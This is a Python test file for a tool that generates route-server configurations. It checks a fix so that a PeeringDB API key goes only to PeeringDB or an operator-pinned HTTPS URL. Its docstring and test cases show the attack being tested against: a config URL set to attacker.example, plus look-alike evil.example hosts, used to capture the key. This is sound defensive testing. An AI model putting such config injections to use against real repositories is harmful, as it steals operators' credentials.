"""Security finding 6: PEERINGDB_API_KEY went to whatever URL exchange.yml named, over http too.

A pull request could set `peeringdb.url: http://attacker.example/api` and read the runner's key
from its own server's log. Now the key is sent only over HTTPS, and only to PeeringDB itself
(www.peeringdb.com, peeringdb.com) or to a URL the operator pins outside the repository
(--peeringdb-url, RSGEN_PEERINGDB_URL). Otherwise rsgen queries anonymously and warns once.

The proof runs against the local fixture server over real HTTPS (a certificate made with openssl
for this test run, trusted through SSL_CERT_FILE) and over plain HTTP, and checks which requests
carried an Authorization header.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import httpx
import pytest

from rsgen.errors import SourceFailed
from rsgen.refresher import refresh
from rsgen.sources.peeringdb import PeeringDbClient, api_key_refusal
from tests.fixtures.irr_plugin import MakeIrrServer
from tests.fixtures.pdb_server import PeeringDbFixtureServer
from tests.fixtures.peeringdb_plugin import MakePeeringDbServer
from tests.fixtures.tls import TlsCertificate
from tests.helpers import REPO, build_tree, source_settings

KEY = "pdbKey-9f8e7d6c5b4a"
RPSL = REPO / "tests" / "fixtures" / "rpsl" / "small-exchange.rpsl"


def _exchange(root: Path, url: str | None) -> Path:
    peeringdb = f"peeringdb: {{url: '{url}', timeout: 5}}\n" if url else ""
    return build_tree(root, {
        "exchange.yml": (
            "name: Test IX\nroute_servers:\n"
            "  - {name: rs1, asn: 65500, router_id: 198.51.100.1, ipv4: 198.51.100.1}\n"
            "peering_lan: {ipv4: 198.51.100.0/24}\n"
            "irr: {sources: [RIPE, RADB], timeout: 10, parallel: 2}\n" + peeringdb),
        "members/AS3333.yml": "asn: 3333\nname: RIPE NCC\nsessions:\n  - ip: 198.51.100.33\n",
    })


def _record() -> dict[str, object]:
    return {"asn": 3333, "name": "RIPE NCC", "irr_as_set": "RIPE::AS-GOOD", "info_prefixes4": 10,
            "info_prefixes6": 5, "info_never_via_route_servers": False, "status": "ok"}


@pytest.fixture
def trusted(tls_certificate: TlsCertificate, monkeypatch: pytest.MonkeyPatch) -> TlsCertificate:
    monkeypatch.setenv("SSL_CERT_FILE", str(tls_certificate.certificate))
    monkeypatch.setenv("PEERINGDB_API_KEY", KEY)
    return tls_certificate


@pytest.fixture
def https_pdb(make_peeringdb_server: MakePeeringDbServer,
              trusted: TlsCertificate) -> PeeringDbFixtureServer:
    return make_peeringdb_server(records=[_record()], tls=trusted)


@pytest.fixture
def http_pdb(make_peeringdb_server: MakePeeringDbServer,
             trusted: TlsCertificate) -> PeeringDbFixtureServer:
    return make_peeringdb_server(records=[_record()])


def _authorizations(server: PeeringDbFixtureServer) -> list[str | None]:
    assert server.requests, "the server was never asked"
    # Distinct values, in order: a refresh asks more than once (members, never-via list).
    return list(dict.fromkeys(r.headers.get("authorization") for r in server.requests))


# --- through refresh(): where the URL came from decides ---


def test_key_is_sent_over_https_to_a_pinned_host(tmp_path: Path, https_pdb: PeeringDbFixtureServer,
                                                 make_irr_server: MakeIrrServer) -> None:
    """The operator's --peeringdb-url (here: refresh's peeringdb_url) over HTTPS gets the key."""
    irr = make_irr_server(RPSL)
    report = refresh(_exchange(tmp_path, None), settings=source_settings(https_pdb.url, irr.host))
    assert _authorizations(https_pdb) == [f"Api-Key {KEY}"]
    assert report.notices == []


def test_key_is_not_sent_to_an_exchange_yml_url(tmp_path: Path, https_pdb: PeeringDbFixtureServer,
                                                make_irr_server: MakeIrrServer) -> None:
    """The attack: exchange.yml names the author's own server (HTTPS, even a valid certificate).
    The query still works, anonymously; one warning says why and how to pin."""
    irr = make_irr_server(RPSL)
    report = refresh(_exchange(tmp_path, https_pdb.url), settings=source_settings(None, irr.host))
    assert _authorizations(https_pdb) == [None]
    assert report.updated == [3333]
    (notice,) = report.notices
    assert notice.startswith(f"PEERINGDB_API_KEY is set but not sent to {https_pdb.url}: that "
                             "URL comes from exchange.yml and is not PeeringDB's")
    assert "--peeringdb-url or RSGEN_PEERINGDB_URL" in notice
    assert KEY not in notice


@pytest.mark.parametrize("pinned", [True, False])
def test_key_is_never_sent_over_plain_http(tmp_path: Path, http_pdb: PeeringDbFixtureServer,
                                           make_irr_server: MakeIrrServer, pinned: bool) -> None:
    """Not even to a pinned host: an http:// URL would put the key on the wire in clear."""
    irr = make_irr_server(RPSL)
    exchange = _exchange(tmp_path, None if pinned else http_pdb.url)
    report = refresh(exchange, settings=source_settings(http_pdb.url if pinned else None,
                                                        irr.host))
    assert _authorizations(http_pdb) == [None]
    (notice,) = report.notices
    assert "it would travel unencrypted over http://" in notice and KEY not in notice


# --- through the CLI: RSGEN_PEERINGDB_URL pins, exchange.yml does not; the warning reaches stderr


def _cli(args: list[str], env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "rsgen", *args], capture_output=True, text=True,
                          check=False, timeout=120, cwd=REPO, env={**os.environ, **env})


def test_cli_sends_the_key_only_to_the_pinned_url(tmp_path: Path,
                                                  https_pdb: PeeringDbFixtureServer,
                                                  make_peeringdb_server: MakePeeringDbServer,
                                                  trusted: TlsCertificate,
                                                  make_irr_server: MakeIrrServer) -> None:
    irr = make_irr_server(RPSL)
    attacker = make_peeringdb_server(records=[_record()], tls=trusted)
    exchange = _exchange(tmp_path, attacker.url)
    env = {"SSL_CERT_FILE": str(trusted.certificate), "PEERINGDB_API_KEY": KEY}

    pinned = _cli(["refresh", "-C", str(exchange), "--irr-host", irr.host],
                  {**env, "RSGEN_PEERINGDB_URL": https_pdb.url})
    assert pinned.returncode == 0, pinned.stderr
    assert _authorizations(https_pdb) == [f"Api-Key {KEY}"]
    assert attacker.requests == []  # the pinned URL wins over exchange.yml's
    assert "PEERINGDB_API_KEY is set but not sent" not in pinned.stderr

    unpinned = _cli(["refresh", "-C", str(exchange), "--irr-host", irr.host], env)
    assert unpinned.returncode == 0, unpinned.stderr
    assert _authorizations(attacker) == [None]
    assert unpinned.stderr.count("warning: PEERINGDB_API_KEY is set but not sent to ") == 1
    assert KEY not in unpinned.stdout + unpinned.stderr


# --- the rule itself, for PeeringDB's real hosts (no Internet: a mock transport records) ---


@pytest.mark.parametrize(("url", "pinned", "sent"), [
    ("https://www.peeringdb.com/api", False, True),
    ("https://peeringdb.com/api", False, True),
    ("https://WWW.PeeringDB.com:443/api/", False, True),
    ("http://www.peeringdb.com/api", False, False),
    ("https://www.peeringdb.com:8443/api", False, False),
    ("https://www.peeringdb.com.evil.example/api", False, False),
    ("https://evil.example/www.peeringdb.com/api", False, False),
    ("https://peeringdb.example/api", False, False),
    ("https://pdb-mirror.internal.example/api", True, True),
    ("http://pdb-mirror.internal.example/api", True, False),
])
def test_key_rule(url: str, pinned: bool, sent: bool) -> None:
    seen: list[str | None] = []

    def answer(request: httpx.Request) -> httpx.Response:
        seen.append(request.headers.get("authorization"))
        return httpx.Response(200, json={"data": [], "meta": {}})

    client = PeeringDbClient(url, api_key=KEY, pinned=pinned,
                             transport=httpx.MockTransport(answer))
    assert client.fetch_nets([3333]) == {}
    assert seen == [f"Api-Key {KEY}" if sent else None]
    assert (client.key_withheld is None) == sent
    assert (api_key_refusal(httpx.URL(url), pinned=pinned) is None) == sent


def test_no_key_no_warning() -> None:
    client = PeeringDbClient("http://evil.example/api", api_key=None)
    assert client.key_withheld is None


def test_credentials_in_a_url_are_not_shown_in_messages() -> None:
    """An operator's URL may carry user:password@; rsgen's messages never repeat them."""
    def refuse(request: httpx.Request) -> httpx.Response:
        return httpx.Response(404, text="no")

    client = PeeringDbClient("https://ops:Hunter2Pass@pdb.example/api", api_key=KEY,
                             pinned=True, transport=httpx.MockTransport(refuse), max_attempts=1)
    with pytest.raises(SourceFailed) as caught:
        client.fetch_nets([3333])
    assert "https://pdb.example/api/net?asn__in=3333" in str(caught.value)
    assert "Hunter2Pass" not in str(caught.value) and "ops:" not in str(caught.value)
    withheld = PeeringDbClient("http://ops:Hunter2Pass@pdb.example/api", api_key=KEY, pinned=True)
    assert withheld.key_withheld is not None and "Hunter2Pass" not in withheld.key_withheld
